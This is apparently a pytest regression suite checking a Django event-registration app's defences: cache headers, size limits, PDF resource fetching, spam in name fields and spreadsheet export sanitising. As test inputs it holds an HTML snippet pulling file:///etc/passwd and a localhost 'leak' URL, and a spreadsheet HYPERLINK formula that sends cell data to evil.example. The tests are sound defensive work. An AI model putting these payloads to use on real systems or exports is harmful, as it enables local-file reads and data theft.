"""Regression tests for what docs/security.md says the project defends against."""

import datetime as dt

import pytest
from django.utils import timezone

from tests.altcha import solved
from tests.factories import register_visitor

pytestmark = pytest.mark.django_db


@pytest.fixture
def entry_pass(event):
    return register_visitor(
        event,
        visit_date=event.start_date + dt.timedelta(days=1),
        now=event.opens_on(event.start_date) - dt.timedelta(days=2),
    ).registration.entry_pass


def test_pages_with_a_visitors_data_are_never_stored_by_a_cache(client, entry_pass):
    for suffix in ("", "pass.pdf", "calendar.ics", "gate/", "access/"):
        response = client.get(f"/p/{entry_pass.code}/{suffix}")
        assert response.status_code == 200, suffix
        cache_control = response["Cache-Control"]
        assert "no-store" in cache_control and "private" in cache_control, suffix
        assert "public" not in cache_control


def test_pass_pages_are_not_served_from_the_page_cache(client, entry_pass, settings):
    settings.PAGE_CACHE_SECONDS = 60
    first = client.get(f"/p/{entry_pass.code}/")
    registration = entry_pass.registration
    registration.full_name = "Nguyễn Văn Ưng"
    registration.save()
    assert "Nguyễn Văn Ưng" in client.get(f"/p/{entry_pass.code}/").content.decode()
    assert first.status_code == 200
    assert timezone.now()  # the page was rendered afresh, not kept


def test_the_api_answers_oversized_bodies_and_impossible_ids_with_a_code(client, event):
    big = '{"full_name": "' + "x" * 3_000_000 + '"}'
    response = client.post(f"/api/v1/events/{event.pk}/registrations/", big, content_type="application/json")
    assert response.status_code == 413 and response.json()["code"] == "too_large"
    for path in (f"/api/v1/events/{2**63}/catalogue/", f"/api/v1/events/{2**64}/catalogue/"):
        response = client.get(path)
        assert response.status_code in (404, 422) and response.json()["code"] in ("not_found", "invalid")


def test_pdfs_fetch_only_the_projects_own_fonts_and_data_urls():
    from unittest import mock

    from weasyprint import URLFetcher

    from events.services.passes import render_pdf

    reached = []
    real = URLFetcher.fetch

    def spy(self, url, headers=None):
        reached.append(url)
        return real(self, url, headers)

    html = (
        '<p>Đặng Thị Hương</p><img src="file:///etc/passwd"><img src="http://127.0.0.1:9/leak">'
        '<img src="ftp://127.0.0.1/x"><link rel="stylesheet" href="file:///etc/hostname">'
    )
    with mock.patch.object(URLFetcher, "fetch", spy):
        pdf = render_pdf(html, "events/pass_pdf.css")
    assert pdf.startswith(b"%PDF")
    # Fonts may already be loaded by an earlier render (cached per process): nothing else came.
    assert [url for url in reached if not (url.startswith("file://") and "/fonts/" in url)] == []


def test_the_registration_form_relays_no_spam(client, event):
    from django.core import mail

    from events.models import Registration

    url = f"/events/{event.pk}/register/"
    base = {
        "email": "victim@example.vn",
        "phone": "0912 345 678",
        "visit_date": (event.start_date + dt.timedelta(days=1)).isoformat(),
        "party_size": "1",
        "consent": "on",
    }
    for name in (
        "Your pass was suspended - verify at http://evil.example/vn",
        "Xác minh tại evil.com ngay",
        "Nguyễn <b>Văn</b> A",
        "Trần\u0001Bình",
    ):
        response = client.post(url, solved({**base, "full_name": name}))
        assert response.status_code == 400 and "full_name" in response.context["form"].errors, name
    bad = solved({**base, "full_name": "Đặng Thị Hương", "organisation": "Trường\u0001ABC"})
    response = client.post(url, bad)
    assert response.status_code == 400 and "organisation" in response.context["form"].errors
    assert not Registration.objects.exists() and not mail.outbox


def test_rate_limits_count_the_mailbox_not_its_spellings():
    from bookday.validators import rate_limit_email

    spellings = ["victim+0@example.com", "Victim+11@Example.com", "victim@example.com"]
    assert {rate_limit_email(address) for address in spellings} == {"victim@example.com"}
    gmail = ["v.i.c.t.i.m+7@gmail.com", "VICTIM@googlemail.com", "vic.tim@gmail.com"]
    assert {rate_limit_email(address) for address in gmail} == {"victim@gmail.com"}
    assert rate_limit_email("a.b@example.vn") == "a.b@example.vn"  # dots matter elsewhere


def test_emails_do_not_open_with_the_typed_name(event):
    from django.core import mail

    register_visitor(
        event,
        full_name="Đặng Thị Hương",
        visit_date=event.start_date + dt.timedelta(days=1),
        now=event.opens_on(event.start_date) - dt.timedelta(days=2),
    )
    body = mail.outbox[-1].body
    assert body.startswith("Xin chào,") and "Đặng Thị Hương" in body


def _download(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_exports_neutralise_formulas_and_survive_control_characters(admin_client, event):
    import csv
    import io

    from openpyxl import load_workbook

    from events.models import Registration

    registration = register_visitor(
        event,
        full_name="Tran Van Binh",
        visit_date=event.start_date + dt.timedelta(days=1),
        now=event.opens_on(event.start_date) - dt.timedelta(days=2),
    ).registration
    # As if stored before the edge refused them: a formula name, a control character.
    Registration.objects.filter(pk=registration.pk).update(
        full_name='=HYPERLINK("http://evil.example/?leak="&E2&F2,"Xem chi tiết")',
        organisation="Truong\u0001ABC",
    )
    text = _download(admin_client.get("/admin/registrations/", {"export": "csv"})).decode("utf-8-sig")
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)
    assert '\'=HYPERLINK("http://evil.example/?leak="&E2&F2,"Xem chi tiết")' in values
    assert "TruongABC" in values
    xlsx = admin_client.get("/admin/registrations/", {"export": "xlsx"})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(_download(xlsx))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)  # no formula in the workbook
    assert "TruongABC" in [cell.value for cell in cells]


@pytest.mark.parametrize(
    "query",
    [
        "?publisher=khong-co&q=van",
        "?category=khong-co&q=van",
        "?page=99999999999999999999",
        "?page=9223372036854775808&q=a",
    ],
)
def test_the_catalogue_answers_odd_queries_without_a_server_error(client, event, query):
    assert client.get(f"/events/{event.pk}/catalogue/{query}").status_code == 200
    answer = client.get(f"/api/v1/events/{event.pk}/catalogue/{query}")
    assert answer.status_code in (200, 422) and answer.json().get("code", "ok") in ("ok", "invalid")
